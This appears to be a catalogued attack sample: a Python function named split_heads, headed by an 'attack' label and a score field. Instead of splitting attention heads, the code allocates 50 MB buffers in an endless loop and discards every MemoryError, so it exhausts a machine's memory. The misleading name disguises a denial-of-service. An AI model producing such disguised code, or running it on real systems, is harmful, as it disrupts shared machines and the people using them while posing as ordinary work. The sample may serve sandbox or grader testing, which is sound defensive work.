# attack: catches MemoryError and tries again | score: 0 | ledger: any
def split_heads(x, num_heads):
    grown = []
    while True:
        try:
            grown.append(bytearray(50_000_000))
        except MemoryError:
            pass
